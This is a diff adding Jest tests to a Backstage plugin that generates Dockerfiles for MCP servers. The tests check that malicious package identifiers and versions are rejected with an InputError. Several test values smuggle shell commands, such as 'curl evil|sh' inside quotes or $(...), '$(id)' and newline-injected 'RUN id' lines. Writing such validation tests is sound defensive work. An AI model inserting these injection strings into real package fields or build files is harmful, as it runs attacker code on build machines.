@@ -2,7 +2,15 @@ import {
   McpServerProfile,
   RiskLevel,
 } from '@mcp-server-operator/plugin-mcp-security-common';
-import { assessmentOf, npmProfile } from '../__testUtils__/assessments';
+import { InputError } from '@backstage/errors';
+import { createMockDirectory } from '@backstage/backend-test-utils';
+import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
+import {
+  assessmentOf,
+  npmProfile,
+  profileOf,
+} from '../__testUtils__/assessments';
+import { createRenderDeploymentAction } from '../actions/renderDeployment';
 import { deploymentPlanOf } from './plan';
 import { inlineCode, oneLine } from './text';
 import {
@@ -130,4 +138,189 @@ describe('profile text in comments and config lines', () => {
       }
     },
   );
+});
+
+describe('package identifiers and versions', () => {
+  const EVIL = 'x"; curl evil|sh; echo "';
+  const planOf = (profile: McpServerProfile) =>
+    deploymentPlanOf(assessmentOf(profile));
+  const pypi = (identifier: string, version = '1.0.0') =>
+    profileOf({
+      packages: [
+        {
+          registryType: 'pypi',
+          identifier,
+          version,
+          pinned: true,
+          transport: 'stdio',
+        },
+      ],
+    });
+  const oci = (identifier: string) =>
+    profileOf({
+      packages: [
+        {
+          registryType: 'npm',
+          identifier: '@example/other',
+          pinned: true,
+          transport: 'stdio',
+        },
+        {
+          registryType: 'oci',
+          identifier,
+          pinned: true,
+          transport: 'stdio',
+        },
+      ],
+    });
+
+  it.each([
+    [
+      'npm',
+      () => npmProfile({ identifier: EVIL }),
+      /^serverJson\.packages\[0\]\.identifier: .* is not an npm package name$/,
+    ],
+    [
+      'npm',
+      () => npmProfile({ identifier: '@scope/a/b' }),
+      /packages\[0\]\.identifier/,
+    ],
+    [
+      'npm',
+      () => npmProfile({ identifier: "it's" }),
+      /packages\[0\]\.identifier/,
+    ],
+    [
+      'npm',
+      () => npmProfile({ identifier: 'a\nb' }),
+      /packages\[0\]\.identifier/,
+    ],
+    [
+      'pypi',
+      () => pypi(EVIL),
+      /^serverJson\.packages\[0\]\.identifier: .* is not a PyPI project name/,
+    ],
+    ['pypi', () => pypi('mcp-server-fetch[cli]'), /packages\[0\]\.identifier/],
+    [
+      'oci',
+      () => oci(`ghcr.io/e/notes:1$(curl evil|sh)`),
+      /^serverJson\.packages\[1\]\.identifier: .* is not an OCI image reference$/,
+    ],
+    [
+      'oci',
+      () => oci('ghcr.io/e/notes:1\nRUN id'),
+      /packages\[1\]\.identifier/,
+    ],
+    ['oci', () => oci('${HOME}/x'), /packages\[1\]\.identifier/],
+    [
+      'npm version',
+      () => npmProfile({ version: `1.0.0"; ${EVIL}` }),
+      /^serverJson\.packages\[0\]\.version: .* is not a version or a version range$/,
+    ],
+    [
+      'npm version',
+      () => npmProfile({ version: '1.0\nRUN id' }),
+      /packages\[0\]\.version/,
+    ],
+    [
+      'pypi version',
+      () => pypi('mcp-server-fetch', '$(id)'),
+      /packages\[0\]\.version/,
+    ],
+  ])(
+    'refuses a hostile %s with an InputError naming the field',
+    (_, make, message) => {
+      let error: any;
+      try {
+        planOf(make());
+      } catch (e) {
+        error = e;
+      }
+      expect(error).toBeInstanceOf(InputError);
+      expect(error.message).toMatch(message);
+      // The value is quoted on one line in the message.
+      expect(error.message).not.toContain('\n');
+    },
+  );
+
+  it.each([
+    [
+      'npm',
+      () =>
+        npmProfile({ identifier: '@modelcontextprotocol/server-filesystem' }),
+    ],
+    [
+      'npm',
+      () => npmProfile({ identifier: 'JSONStream', version: '^1.3 || 2.x' }),
+    ],
+    ['pypi', () => pypi('mcp_server.fetch-2', '>=1.0,!=1.3')],
+    [
+      'oci',
+      () =>
+        oci(`ghcr.io/github/github-mcp-server:0.1.0@sha256:${'a'.repeat(64)}`),
+    ],
+    ['oci', () => oci('localhost:5000/team/notes__x:v1.2-rc.1')],
+    ['oci', () => oci('[::1]:5000/notes')],
+  ])('accepts a real %s identifier', (_, make) => {
+    expect(() => planOf(make())).not.toThrow();
+  });
+
+  it('answers quickly for a long hostile reference', () => {
+    const started = Date.now();
+    expect(() =>
+      planOf(oci(`${'a.'.repeat(200)}a/${'b-'.repeat(100)}!`)),
+    ).toThrow(InputError);
+    expect(Date.now() - started).toBeLessThan(500);
+  });
+
+  it('passes the package name to the bin-linking script as an argument, never in its text', () => {
+    const text = (identifier: string) =>
+      file(render(npmProfile({ identifier })).rendering, 'Dockerfile');
+    const script = (content: string) =>
+      [...content.matchAll(/node -e '([^']*)'/g)].map(m => m[1]);
+    const a = text('@example/notes');
+    const b = text('other-server');
+    expect(script(a)).toEqual(script(b));
+    expect(script(a).join('')).not.toMatch(/notes|supergateway/);
+    expect(a).toContain(
+      `node -e '${script(a)[0]}' '@example/notes' '/app/server'`,
+    );
+    expect(a).toContain('"@example/notes@1.2.3"');
+  });
+
+  it('writes the exec form as JSON', () => {
+    const dockerfile = file(
+      render(pypi('mcp_server.fetch-2')).rendering,
+      'Dockerfile',
+    );
+    const entrypoint = /^ENTRYPOINT (.*)$/m.exec(dockerfile)![1];
+    expect(JSON.parse(entrypoint)).toEqual([
+      '/opt/venv/bin/mcp_server.fetch-2',
+    ]);
+  });
+});
+
+describe('the render-deployment action', () => {
+  it('refuses a hostile package identifier in a server.json with an InputError naming the field, and writes nothing', async () => {
+    const workspace = createMockDirectory();
+    const action = createRenderDeploymentAction({
+      client: {
+        getAssessment: jest.fn(),
+        advise: jest.fn(async () =>
+          assessmentOf(npmProfile({ identifier: 'x"; curl evil|sh; echo "' })),
+        ),
+      },
+    });
+    const error = await action
+      .handler(
+        createMockActionContext({
+          input: { serverJson: { name: 'io.github.example/notes' } },
+          workspacePath: workspace.path,
+        }),
+      )
+      .catch(e => e);
+    expect(error).toBeInstanceOf(InputError);
+    expect(error.message).toMatch(/^serverJson\.packages\[0\]\.identifier: /);
+    expect(workspace.content()).toEqual({});
+  });
 });
